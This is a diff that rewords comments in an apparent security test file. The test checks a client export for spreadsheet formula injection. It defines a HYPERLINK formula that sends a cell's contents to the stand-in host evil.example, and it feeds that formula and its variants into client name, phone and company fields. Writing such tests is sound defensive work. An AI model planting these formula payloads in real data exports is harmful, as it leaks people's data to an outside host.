@@ -10,7 +10,7 @@ import { attack, type Trial } from './lib/attack.ts'
 import { addClient } from './lib/people.ts'
 import { drain, words } from './lib/requests.ts'
 
-/** Texts that a spreadsheet takes for formulas, by themselves or after a delimiter or quote. */
+/** Texts that a spreadsheet treats as formulas, by themselves or after a delimiter or quote. */
 const CALL = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
 const FORMULAS = [
   ...words(`
@@ -49,7 +49,7 @@ async function clientsOf(who: Caller): Promise<string[]> {
 attack('formulas in the export of clients', async (t) => {
   const bookkeeper = await newBookkeeper(undefined, `=${CALL}`)
   for (const text of FORMULAS) {
-    // Companies may be called like a web address, people may not.
+    // A company's name may look like a web address, a person's may not.
     const input = { name: text.replace('http://evil.example/', ''), phone: text.slice(0, 40), company: text }
     await t.accepts(`a client called ${text}`, addClient(bookkeeper, input))
   }
@@ -112,7 +112,7 @@ interface MailRow {
   unsubscribe: string | null
 }
 
-/** Lets people with this name cause all mails. @returns their addresses */
+/** Makes people with this name cause every kind of mail. @returns their addresses */
 async function causeMails(t: Trial, name: string): Promise<string[]> {
   const fields = [
     { id: 'note', name, section: name },
